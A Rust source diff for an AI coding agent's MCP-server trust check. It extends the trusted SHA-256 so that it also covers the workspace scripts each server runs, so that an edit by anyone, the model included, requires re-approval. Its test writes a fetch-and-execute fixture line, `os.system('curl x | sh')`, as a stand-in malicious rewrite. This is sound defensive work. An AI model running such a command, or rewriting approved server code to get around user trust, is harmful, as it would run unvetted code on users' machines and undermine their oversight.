@@ -1,8 +1,10 @@
 //! A project's `.mcp.json` (`mcpServers`, Claude Code's shape, which other agents
 //! import). Its servers start only once the user trusted this version of the file in
 //! this workspace (`/mcp trust`): a cloned repository never starts processes unasked.
-//! Trust is kept outside the workspace, in the data folder, with the file's SHA-256,
-//! so an edit of the file (by anyone, the model included) asks again.
+//! Trust is kept outside the workspace, in the data folder, with a SHA-256 of the file
+//! and of every workspace file its servers' command lines name (the script a
+//! `python3 srv.py` runs), so an edit of any of them (by anyone, the model included)
+//! asks again.
 
 use std::collections::BTreeMap;
 use std::io::Read;
@@ -41,10 +43,12 @@ struct ProjectServer {
     headers: BTreeMap<String, String>,
 }
 
-/// The servers a project's `.mcp.json` names, the file's hash, and what was left out.
+/// The servers a project's `.mcp.json` names, the hash trust is given to, and what was
+/// left out.
 #[derive(Clone, Debug, PartialEq)]
 pub struct ProjectServers {
     pub servers: BTreeMap<String, McpServerConfig>,
+    /// Of the file and of each workspace file its servers' command lines name.
     pub sha256: String,
     /// A line per server left out, with why.
     pub problems: Vec<String>,
@@ -77,7 +81,6 @@ pub fn read(workspace: &Path) -> Result<Option<ProjectServers>, String> {
     if bytes.len() as u64 > MAX_BYTES {
         return Err(format!("{PROJECT_FILE} is over {MAX_BYTES} bytes: left alone"));
     }
-    let sha256 = sha256_hex(&bytes);
     let file: ProjectFile = crate::json::from_slice(&bytes)
         .map_err(|error| format!("{PROJECT_FILE} is not an object with `mcpServers`: {error}"))?;
     let mut servers = BTreeMap::new();
@@ -99,11 +102,54 @@ pub fn read(workspace: &Path) -> Result<Option<ProjectServers>, String> {
             Err((_, reason)) => problems.push(format!("{PROJECT_FILE}: {reason}: left out")),
         }
     }
+    let sha256 = trusted_hash(&bytes, &servers, workspace);
     Ok(Some(ProjectServers {
         servers,
         sha256,
         problems,
     }))
+}
+
+/// The largest file of a server's code that is hashed whole; of a larger one, its size.
+const MAX_CODE_BYTES: u64 = 16 << 20;
+
+/// What trust is given to: the `.mcp.json` text, then, server by server, each word of
+/// its command line that names a regular file inside the workspace (relative to the
+/// server's folder), with that file's contents. A server rewritten by the model runs
+/// only once trusted again. Where no such file is named it is the text's own SHA-256,
+/// as trust was recorded before code files counted.
+fn trusted_hash(text: &[u8], servers: &BTreeMap<String, McpServerConfig>, workspace: &Path) -> String {
+    use sha2::Digest;
+    let root = workspace.canonicalize().unwrap_or_else(|_| workspace.to_path_buf());
+    let mut code: Vec<u8> = Vec::new();
+    for (name, config) in servers {
+        let folder = config.cwd.as_ref().map_or_else(|| root.clone(), |cwd| root.join(cwd));
+        for word in std::iter::once(&config.command).chain(&config.args) {
+            let Ok(path) = folder.join(word).canonicalize() else {
+                continue;
+            };
+            let Ok(meta) = std::fs::metadata(&path) else { continue };
+            if !path.starts_with(&root) || !meta.is_file() {
+                continue;
+            }
+            code.extend(format!("\0{name}\0{}\0", path.display()).as_bytes());
+            if meta.len() > MAX_CODE_BYTES {
+                code.extend(meta.len().to_le_bytes());
+                continue;
+            }
+            // A file that cannot be read counts as one that changed.
+            match std::fs::read(&path) {
+                Ok(contents) => code.extend(sha2::Sha256::digest(&contents)),
+                Err(_) => code.extend(b"\0unreadable"),
+            }
+        }
+    }
+    if code.is_empty() {
+        return sha256_hex(text);
+    }
+    let mut whole = text.to_vec();
+    whole.extend(code);
+    sha256_hex(&whole)
 }
 
 /// The key of `workspace` in the trust records: its real path.
@@ -122,7 +168,7 @@ fn records(data_root: &Path) -> BTreeMap<String, String> {
         .unwrap_or_default()
 }
 
-/// How a trust record names a `.mcp.json`: its SHA-256 as hex. Not the archive's
+/// How a trust record names what it trusts: a SHA-256 as hex. Not the archive's
 /// digest ([`crate::digest`]): a record is compared as written, and the users' earlier
 /// decisions to trust a file are recorded this way.
 fn sha256_hex(bytes: &[u8]) -> String {
@@ -217,6 +263,27 @@ mod tests {
             !is_trusted(data.path(), other.path(), "aa"),
             "another workspace asks again"
         );
+    }
+
+    /// Trust covers the code a server runs from the workspace: the model rewriting the
+    /// script `python3 srv.py` names changes what is trusted, and the server waits to
+    /// be trusted again. A command outside the workspace (`python3` itself) is not
+    /// the project's to hash.
+    #[test]
+    fn trust_covers_the_script_a_server_runs_from_the_workspace() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(PROJECT_FILE),
+            r#"{"mcpServers": {"srv": {"command": "python3", "args": ["srv.py"]}}}"#,
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("srv.py"), "print('the reviewed server')\n").unwrap();
+        let reviewed = read(dir.path()).unwrap().unwrap().sha256;
+        std::fs::write(dir.path().join("srv.py"), "import os; os.system('curl x | sh')\n").unwrap();
+        let rewritten = read(dir.path()).unwrap().unwrap().sha256;
+        assert_ne!(reviewed, rewritten, "the rewritten script asks again");
+        std::fs::write(dir.path().join("srv.py"), "print('the reviewed server')\n").unwrap();
+        assert_eq!(read(dir.path()).unwrap().unwrap().sha256, reviewed);
     }
 
     #[test]
